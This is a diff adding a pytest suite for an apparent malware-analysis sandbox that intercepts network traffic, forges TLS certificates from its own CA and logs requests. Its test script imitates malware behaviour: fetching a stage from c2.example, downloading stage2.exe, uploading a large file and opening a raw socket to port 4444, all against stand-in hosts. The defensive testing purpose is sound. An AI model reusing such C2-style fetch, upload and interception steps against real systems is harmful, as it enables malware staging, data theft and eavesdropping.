@@ -1,0 +1,185 @@
+"""Recognised protocols end to end: real clients in `nftdivert sandbox`.
+
+One sandbox runs every client, one after another, as a sample would; each
+test then checks what its client got and what the log says. The queue
+backend plays no part in what the listener answers: any_backend.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import re
+import subprocess
+
+import pytest
+from cryptography import x509
+from cryptography.hazmat.primitives import serialization
+
+import lab
+from conftest import REPO, nftdivert_argv
+from nftdivert.services import certs
+
+pytestmark = [pytest.mark.kernel, pytest.mark.any_backend]
+
+BIG = 5 * 1024 * 1024  # what the script sends
+
+# $D is the work directory; every client's result lands there.
+SCRIPT = r"""
+cd "$D"
+curl -sS --max-time 20 -o https.txt https://c2.example/next/stage.txt; echo $? > https.rc
+curl -sS --max-time 20 -o http.txt http://plain.example/hello.json; echo $? > http.rc
+curl -sS --max-time 20 --cacert other-ca.pem https://untrusted.example/; echo $? > untrusted.rc
+openssl s_client -connect c2.example:443 -servername x.example -showcerts </dev/null >s_client.txt 2>s_client.err
+wget -q -T 20 -O stage2.exe http://dl.example/files/stage2.exe; echo $? > wget.rc
+head -c 5242880 /dev/urandom > big.bin
+curl -sS --max-time 60 -o /dev/null --data-binary @big.bin https://upload.example/up; echo $? > big.rc
+printf 'chunk-body' | curl -sS --max-time 20 -o /dev/null -H 'Transfer-Encoding: chunked' --data-binary @- \
+    http://chunked.example/c; echo $? > chunked.rc
+python3 -c '
+import socket
+s = socket.create_connection(("198.51.100.7", 4444), timeout=10)
+s.sendall(bytes(range(256)))
+s.shutdown(socket.SHUT_WR)
+got = b""
+while chunk := s.recv(4096):
+    got += chunk
+open("echo.bin", "wb").write(got)
+'
+"""
+
+
+@pytest.fixture(scope="module")
+def run(tmp_path_factory):
+    work = tmp_path_factory.mktemp("answers")
+    os.chmod(work, 0o755)
+    state, bodies, keylog, pcap = work / "state", work / "bodies", work / "keys.log", work / "capture.pcap"
+    config = work / "sandbox.toml"
+    config.write_text(f'[queue]\nbackend = "{lab.BACKEND}"\n[tls]\nstate_dir = "{state}"\nkeylog = "{keylog}"\n'
+                      f'[http]\nbodies_dir = "{bodies}"\n')
+    (work / "other-ca.pem").write_bytes(certs.ensure_ca(work / "other").pem)  # a CA curl trusts instead
+    env = dict(os.environ, PYTHONPATH=str(REPO), D=str(work))
+    env.pop("SUDO_UID", None)
+    proc = subprocess.run(nftdivert_argv("sandbox", "-c", str(config), "-w", str(pcap), "--timeout", "120",
+                                         "--", "sh", "-c", SCRIPT),
+                          capture_output=True, text=True, env=env, timeout=180)
+    assert proc.returncode == 0, proc.stderr
+    records = [json.loads(line) for line in proc.stdout.splitlines() if line.startswith("{")]
+    return work, records
+
+
+def rc(work, name: str) -> int:
+    return int((work / f"{name}.rc").read_text())
+
+
+def tls_record(records, sni: str) -> dict:
+    found = [r for r in records if r.get("event") == "tls" and r.get("sni") == sni]
+    assert found, f"no TLS handshake logged for {sni}: {records}"
+    return found[0]
+
+
+def http_record(records, url: str) -> dict:
+    found = [r for r in records if r.get("event") == "http" and r.get("url") == url]
+    assert found, f"no HTTP request logged for {url}: {records}"
+    return found[0]
+
+
+def test_https_with_the_ca_trusted_gets_the_body_and_the_request_is_logged(run):
+    work, records = run
+    assert rc(work, "https") == 0 and (work / "https.txt").read_bytes() == b"ok\n"
+    hello = tls_record(records, "c2.example")
+    assert hello["result"] == "ok" and hello["version"] in ("TLSv1.2", "TLSv1.3")
+    assert "http/1.1" in hello["alpn_offered"] and hello["alpn"] == "http/1.1"
+    req = http_record(records, "https://c2.example/next/stage.txt")
+    assert req["method"] == "GET" and req["status"] == 200 and req["client"] == hello["client"]
+    assert ["Host", "c2.example"] in req["headers"]
+    # The conversation log names the same client, with the destination it asked for.
+    conv = [r for r in records if r.get("client") == req["client"] and "original_destination" in r]
+    assert conv and conv[0]["original_destination"].endswith(":443") and conv[0]["name"] == "c2.example"
+
+
+def test_plain_http_gets_the_file_type_asked_for(run):
+    work, records = run
+    assert rc(work, "http") == 0 and json.loads((work / "http.txt").read_text()) == {}
+    assert http_record(records, "http://plain.example/hello.json")["status"] == 200
+
+
+def test_an_untrusted_ca_fails_the_handshake_and_the_sni_is_still_logged(run):
+    work, records = run
+    assert rc(work, "untrusted") == 60  # curl: the peer's certificate cannot be verified
+    hello = tls_record(records, "untrusted.example")
+    assert hello["result"] == "failed" and "UNKNOWN_CA" in hello["error"].upper()
+    assert not [r for r in records if r.get("event") == "http" and "untrusted.example" in r.get("url", "")]
+
+
+def test_s_client_gets_a_certificate_for_the_sni_that_chains_to_the_ca(run):
+    work, records = run
+    out = (work / "s_client.txt").read_text()
+    pems = re.findall(r"-----BEGIN CERTIFICATE-----.+?-----END CERTIFICATE-----\n", out, re.S)
+    assert pems, out
+    leaf = x509.load_pem_x509_certificate(pems[0].encode())
+    names = leaf.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
+    assert names.get_values_for_type(x509.DNSName) == ["x.example"]
+    (work / "leaf.pem").write_text(pems[0])
+    ca = work / "state" / "ca.pem"
+    verify = subprocess.run(["openssl", "verify", "-CAfile", str(ca), "-verify_hostname", "x.example",
+                             str(work / "leaf.pem")], capture_output=True, text=True)
+    assert verify.returncode == 0 and verify.stdout.strip().endswith(": OK"), verify.stdout + verify.stderr
+    assert "Verify return code: 0 (ok)" in out  # the sandbox's /etc/ssl bundle holds the CA
+    assert tls_record(records, "x.example")["result"] == "ok"
+
+
+def test_the_state_directory_is_private(run):
+    work, _ = run
+    assert (work / "state").stat().st_mode & 0o777 == 0o700
+    assert (work / "state" / "ca.key").stat().st_mode & 0o777 == 0o600
+    key = serialization.load_pem_private_key((work / "state" / "ca.key").read_bytes(), None)
+    ca = x509.load_pem_x509_certificate((work / "state" / "ca.pem").read_bytes())
+    assert key.public_key().public_numbers() == ca.public_key().public_numbers()
+
+
+def test_wget_of_an_exe_gets_a_pe_file(run):
+    work, records = run
+    assert rc(work, "wget") == 0
+    data = (work / "stage2.exe").read_bytes()
+    assert data[:2] == b"MZ"
+    pe_at = int.from_bytes(data[0x3C:0x40], "little")
+    assert data[pe_at:pe_at + 4] == b"PE\0\0" and int.from_bytes(data[pe_at + 4:pe_at + 6], "little") == 0x14C
+    assert http_record(records, "http://dl.example/files/stage2.exe")["headers"][0][0] == "Host"
+
+
+def test_a_5_mb_post_is_read_whole_stored_and_hashed(run):
+    work, records = run
+    assert rc(work, "big") == 0
+    sent = (work / "big.bin").read_bytes()
+    digest = hashlib.sha256(sent).hexdigest()
+    req = http_record(records, "https://upload.example/up")
+    assert req["method"] == "POST" and req["body_size"] == BIG and req["body_sha256"] == digest
+    assert ["Expect", "100-continue"] in req["headers"]  # curl asks for it above 1 MiB
+    assert req["body_saved"] == str(work / "bodies" / digest)
+    assert hashlib.sha256((work / "bodies" / digest).read_bytes()).hexdigest() == digest
+
+
+def test_a_chunked_body_is_read_whole(run):
+    work, records = run
+    assert rc(work, "chunked") == 0
+    req = http_record(records, "http://chunked.example/c")
+    assert req["body_size"] == len(b"chunk-body")
+    assert req["body_sha256"] == hashlib.sha256(b"chunk-body").hexdigest()
+
+
+def test_an_unknown_binary_protocol_is_echoed(run):
+    work, records = run
+    assert (work / "echo.bin").read_bytes() == bytes(range(256))
+    assert not [r for r in records if r.get("event") in ("tls", "http") and "4444" in r.get("url", "")]
+
+
+def test_the_capture_and_the_key_log_decrypt_to_the_https_request(run):
+    work, _ = run
+    assert (work / "keys.log").read_text().count("CLIENT_TRAFFIC_SECRET_0") >= 3
+    out = subprocess.run(["tshark", "-n", "-r", str(work / "capture.pcap"), "-o",
+                          f"tls.keylog_file:{work / 'keys.log'}", "-Y", "http.request", "-T", "fields",
+                          "-e", "http.host", "-e", "http.request.uri"],
+                         capture_output=True, text=True, timeout=120)
+    assert "c2.example\t/next/stage.txt" in out.stdout, out.stdout + out.stderr
